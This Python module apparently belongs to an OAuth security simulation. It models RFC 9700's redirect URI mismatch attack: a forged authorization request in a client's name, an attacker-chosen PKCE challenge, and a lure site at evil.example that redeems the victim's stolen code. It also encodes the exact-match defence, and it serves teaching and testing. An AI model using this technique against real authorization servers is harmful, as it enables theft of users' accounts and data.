"""Redirect URIs that are compared carelessly: what the attacks on them share (RFC 9700 §4.1.1).

A link of the attacker's asks in the client's name, and lets the answer come to himself. Ana sees the real login page
and the real name of a client that she trusts. PKCE does not help: whoever asks chooses the challenge.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from functools import cache

from flask import Flask, Response, request

from app.actors.owner import Owner
from app.actors.places import ASKED_SCOPE, AUTHORIZATION_ENDPOINT
from app.actors.redirects import with_query
from app.attacks import lure, parts
from app.attacks.attack import Attack, Defence
from app.attacks.csrf import EVIL
from app.attacks.parts import APP_ID, ATTACKER, STEAL
from app.checks.clients import RegisteredClient
from app.checks.token import s256
from app.flows.flow import Hosts
from app.flows.parts import log_in_and_consent
from app.trace.paths import split_url
from app.wire import Browser, Step, World, here

OWN = "own requests"
SWITCH = "as.redirect_uri_match"


def forged(world: World, uri: str) -> str:
    """An authorization request in the client's name, with a redirect URI and a challenge of the attacker's."""
    thief = world.actor(ATTACKER)
    verifier = thief.mint("code_verifier", world.chance.token("attacker.code_verifier"), "the attacker's own request")
    inputs = {"code_verifier": verifier}
    challenge = thief.work("BASE64URL(SHA256(code_verifier))", inputs, s256(verifier))
    thief.put(OWN, uri, verifier, "the verifier of a request that he makes in the printer's name")
    asked = {"response_type": "code", "client_id": APP_ID, "redirect_uri": uri, "scope": ASKED_SCOPE}
    return with_query(AUTHORIZATION_ENDPOINT, {**asked, "code_challenge": challenge, "code_challenge_method": "S256"})


def receive() -> Response:
    """Redeem the code that came, with his own verifier, and show what the link promised."""
    thief, code = here().actor(ATTACKER), request.args.get("code")
    if code:
        verifier = thief.take(OWN, request.base_url, "the answer came")
        parts.use_code(thief, code, request.base_url, {"code_verifier": verifier or ""})
    return lure.cats()


@cache
def build(uri: str) -> Flask:
    """The attacker's site, which asks for the answer to come to `uri`."""
    return lure.site("evil", lambda world: forged(world, uri), {split_url(uri).path: receive})


def attack(value: str, *, id: str, title: str, registered: str, uri: str, attacker: str, remains: str) -> Attack:
    """The attack on a server that compares by `value`: `registered` stands there besides the address of the app, and
    `uri`, which is the attacker's, goes through for it.
    """
    split = split_url(uri)

    def hosts(_: Mapping[str, str]) -> Hosts:
        return dict.fromkeys((EVIL, f"{split.scheme}://{split.netloc}"), (ATTACKER, build(uri)))

    def prepare(world: World) -> None:
        client: RegisteredClient | None = world.actor("as").look("clients", APP_ID)
        if client is None:  # another kind of client: this attack is not for it
            return
        uris = (*client.redirect_uris, registered)
        world.actor("as").know("clients", APP_ID, replace(client, redirect_uris=uris))

    return Attack(
        id=id,
        title=title,
        spec=("RFC 9700 §4.1.1",),
        flows=("authorization_code",),
        aim="The attacker gets a code for Ana's photos by a link, and redeems it.",
        goal=parts.photos_stolen,
        needs={"client.type": "public", "client.auth": "none", "client.redirect_uri": "claimed_https"},
        weak={SWITCH: value},
        stops=(
            Defence(
                switch=SWITCH,
                value="exact",
                who="as",
                sentence="The address is not one that was registered: the browser is not sent anywhere.",
                check="authorize.redirect_uri.exact",
                at="authorize#1.request",
                status=400,
            ),
        ),
        promised={"rfc9700": "RFC 9700 §2.1", "oauth-2.1": "OAuth 2.1 §2.3.1"},
        lanes=(parts.thief("evil.example", "attacker's site"),),
        steps=(
            *lure.STEPS,
            Step("stolen", "browser", ATTACKER, "GET", "*/cb", STEAL, "Bring the answer to the attacker"),
            *parts.REDEEMING,
        ),
        phases=(lure.LURING, parts.STEALING),
        hosts=hosts,
        prepare=prepare,
        script=script,
        victim="Ana sees the login page of Accounts, and a question about a client that she knows. Both are genuine.",
        attacker=attacker,
        remains=remains,
    )


def script(world: World) -> None:
    """Ana follows a link, and then does what the pages of the authorization server ask."""
    owner, browser = Owner(world), Browser(world)
    lure.follow_link(owner, browser)
    log_in_and_consent(owner, browser)
